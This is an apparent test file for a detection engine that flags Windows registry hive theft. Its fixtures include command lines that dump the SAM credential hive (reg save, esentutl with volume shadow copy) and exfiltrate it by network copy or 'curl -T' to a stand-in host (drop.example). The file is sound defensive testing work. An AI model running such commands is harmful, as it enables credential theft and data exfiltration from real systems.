/** Facts of hive acts and of what happened around them, each with a benign twin. */
import { describe, expect, it } from 'vitest';
import { atCommand } from '../../../src/core/case/hive-command.ts';
import { findingId } from '../../../src/core/finding/finding-id.ts';
import { created, event, factsOfCase, found, joined, NOON, run } from './events.ts';

const at = (seconds: number) => ({ time: NOON + seconds * 1000 });
const place = (line: number) => ({ source: { kind: 'file', file: 'made-up.ndjson', line } as const });
const program = (line: string, image: string, seconds: number) =>
  run(line, at(seconds), { 'process.executable': image });
const ESENTUTL = 'C:\\Windows\\System32\\esentutl.exe';

describe('the hives taken', () => {
  it('are told by the key, by the hive file, or by the name of the file alone', () => {
    expect(factsOfCase(joined(run('reg save HKLM\\SAM C:\\t\\s')))).toMatchObject({
      'hive.taken': ['SAM'],
      'hive.act': 'copy',
      'hive.method': 'reg',
      'hive.output.path': 'c:\\t\\s',
    });
    const copy = program('esentutl /y /vss C:\\Windows\\System32\\config\\SAM /d C:\\t\\x', ESENTUTL, 0);
    expect(factsOfCase(joined(copy))).toMatchObject({
      'hive.taken': ['SAM'],
      'hive.method': 'file_copy',
      'hive.tool': 'esentutl',
      'hive.source.path': 'c:\\windows\\system32\\config\\sam',
      'hive.shadow_copy': true,
      'hive.output.name': 'x',
    });
    expect(factsOfCase(joined(created('C:\\t\\sam.hive')))).toMatchObject({
      'hive.taken': ['SAM'],
      'hive.act': 'file',
      'hive.method': 'created_file',
      'hive.output.extension': 'hive',
    });
  });

  it('are none where a key is read, one key is exported or a file is called something else', () => {
    for (const anchor of [
      run('reg query HKLM\\SAM'),
      run('reg export HKLM\\SOFTWARE\\X C:\\t\\x.reg'),
      created('C:\\t\\system.log'),
    ]) {
      expect(factsOfCase(joined(anchor))['hive.taken']).toBeUndefined();
    }
    expect(factsOfCase(joined(run('reg query HKLM\\SAM')))['hive.act']).toBeUndefined();
  });

  it('make a pair whatever the methods are, and only commands prove one', () => {
    const system = created('C:\\t\\system.save', at(60));
    const facts = factsOfCase(joined(run('reg save HKLM\\SAM C:\\t\\s'), { neighbours: [system] }));
    expect(facts).toMatchObject({ 'pair.hives': ['SAM', 'SYSTEM'], 'pair.proven': ['SAM'], 'pair.count': 1 });
    const alone = factsOfCase(
      joined(run('reg save HKLM\\SAM C:\\t\\s'), { neighbours: [created('C:\\t\\a.log')] }),
    );
    expect(alone['pair.hives']).toEqual(['SAM']);
    const files = factsOfCase(joined(created('C:\\t\\sam'), { neighbours: [system] }));
    expect(files).toMatchObject({ 'pair.hives': ['SAM', 'SYSTEM'], 'pair.count': 0 });
    expect(files['pair.proven']).toBeUndefined();
  });
});

describe('what is done to a hive', () => {
  it.each([
    ['reg restore HKLM\\X C:\\t\\x', 'replace'],
    ['reg load HKU\\T C:\\t\\x', 'replace'],
    ['reg import C:\\t\\x.reg', 'import'],
    ['reg export HKLM\\X C:\\t\\x.reg', 'copy'],
    ['reg copy HKLM\\X HKCU\\X', 'copy'],
    ['reg unload HKU\\T', undefined],
    ['whoami', undefined],
  ])('by %s is: %s', (line, act) => {
    expect(factsOfCase(joined(run(line)))['hive.act']).toBe(act);
  });

  it('leaves a file below the folder that the program worked in, when that is logged', () => {
    const output = (line: string, fields = {}) =>
      factsOfCase(joined(run(line, {}, fields)))['hive.output.path'];
    const here = { 'process.working_directory': 'C:\\w\\' };
    expect(output('reg save HKLM\\SAM s')).toBe('s');
    expect(output('reg save HKLM\\SAM s', here)).toBe('c:\\w\\s');
    expect(output('reg save HKLM\\SAM D:\\s', here)).toBe('d:\\s');
    expect(output('reg query HKLM\\SAM', here)).toBeUndefined();
    expect(factsOfCase(joined(event('file_create', {})))['hive.output.path']).toBeUndefined();
  });

  it('takes a hive only when it is the whole of one that has a name', () => {
    const taken = (line: string) => factsOfCase(joined(run(line)))['hive.taken'];
    expect(taken('reg save HKLM\\SAM\\x C:\\s')).toBeUndefined();
    expect(taken('reg save HKLM C:\\s')).toBeUndefined();
    expect(taken('reg save HKCU C:\\s')).toEqual(['NTUSER']);
    expect(taken('reg restore HKLM\\SAM C:\\s')).toBeUndefined();
  });
});

describe('a key saved and put back', () => {
  const save = run('reg save HKLM\\SOFTWARE\\X C:\\t\\x', at(-300));
  it('tells both how far they are apart', () => {
    const restore = run('reg restore HKLM\\software\\x C:\\t\\x', at(0));
    expect(factsOfCase(joined(restore, { neighbours: [save] }))['pair.save_before']).toBe(300);
    expect(factsOfCase(joined(save, { neighbours: [restore] }))['pair.restore_after']).toBe(300);
  });

  it('is not made of two keys, nor of a restore before its save', () => {
    const other = run('reg restore HKLM\\SOFTWARE\\Y C:\\t\\x', at(0));
    expect(factsOfCase(joined(other, { neighbours: [save] }))['pair.save_before']).toBeUndefined();
    const early = run('reg restore HKLM\\SOFTWARE\\X C:\\t\\x', at(-600));
    expect(factsOfCase(joined(early, { neighbours: [save] }))['pair.save_before']).toBeUndefined();
  });
});

describe('a loaded hive', () => {
  const load = run('reg load HKU\\Tmp C:\\Users\\kim\\NTUSER.DAT');
  const write = (path: string, seconds: number) =>
    event('registry_set', { 'registry.path': path }, at(seconds));
  it('tells what was written below its mount and when it was unloaded', () => {
    const path = 'HKU\\Tmp\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x';
    const neighbours = [write(path, 5), run('reg unload hku\\tmp', at(9))];
    expect(factsOfCase(joined(load, { neighbours }))).toMatchObject({
      'pair.mount_writes': 1,
      'pair.mount_paths': [path],
      'pair.unload_after': 9,
    });
  });

  it('counts no write beside it or before it, and no unload of another', () => {
    const neighbours = [
      write('HKU\\Tmp\\x', -5),
      write('HKU\\Tmp2\\x', 5),
      run('reg unload HKU\\Other', at(9)),
    ];
    const facts = factsOfCase(joined(load, { neighbours }));
    expect(facts['pair.mount_writes']).toBe(0);
    expect(facts['pair.mount_paths']).toBeUndefined();
    expect(facts['pair.unload_after']).toBeUndefined();
  });
});

describe('a copy moved on', () => {
  const save = run('reg save HKLM\\SAM C:\\Temp\\out\\sam.hiv');
  it.each([
    ['7z.exe a C:\\Temp\\l.7z C:\\Temp\\out\\sam.hiv', '7z.exe'],
    ['7z.exe a C:\\Temp\\l.7z C:\\Temp\\out\\*', '7z.exe'],
    ['tar -czf l.tgz sam.hiv', 'tar.exe'],
    ['cmd.exe /c copy c:\\temp\\out\\SAM.HIV \\\\srv\\drop\\', 'cmd.exe'],
    ['robocopy C:\\Temp\\out \\\\srv\\drop', 'robocopy.exe'],
    ['curl -T "C:/Temp/out/sam.hiv" https://drop.example', 'curl.exe'],
  ])('is told by %s', (line, name) => {
    const facts = factsOfCase(joined(save, { neighbours: [program(line, `C:\\x\\${name}`, 60)] }));
    expect(facts).toMatchObject({ 'pair.moved_by': [name], 'pair.moved_line': line });
  });

  it.each([
    ['7z.exe a C:\\Temp\\l.7z C:\\Temp\\other\\*', 60],
    ['7z.exe a C:\\Temp\\l.7z C:\\Temp\\out\\sam.hiv', -60],
    ['cmd.exe /c copy C:\\samples.hiv D:\\', 60],
    ['cmd.exe /c reg save HKLM\\SAM C:\\Temp\\out\\sam.hiv', 0],
  ])('is not told by %s at %i seconds', (line, seconds) => {
    const facts = factsOfCase(joined(save, { neighbours: [program(line, 'C:\\x\\a.exe', seconds)] }));
    expect(facts['pair.moved_by']).toBeUndefined();
  });
});

describe('a file that a command wrote', () => {
  const save = run('reg save HKLM\\SAM C:\\t\\sam.hive', { entityId: 'R', ...place(1) });
  const file = created('C:\\t\\sam.hive', { entityId: 'R', ...place(2), ...at(1) });
  it('is evidence of the command, not an act of its own', () => {
    const act = atCommand(joined(file, { writer: found(save), neighbours: [save] }));
    expect(act).toMatchObject({
      anchor: save,
      payloadFile: { status: 'found', event: file },
      neighbours: [],
    });
    expect(findingId('hive', act)).toBe(findingId('hive', { anchor: save }));
  });

  it('stays an act of its own when its writer names another file or is not known', () => {
    const other = run('reg save HKLM\\SAM C:\\t\\other', { entityId: 'R', ...place(1) });
    expect(atCommand(joined(file, { writer: found(other) })).anchor).toBe(file);
    expect(atCommand(joined(file)).anchor).toBe(file);
    expect(findingId('hive', { anchor: file })).not.toBe(
      findingId('hive', { anchor: created('C:\\t\\system.hive') }),
    );
  });
});
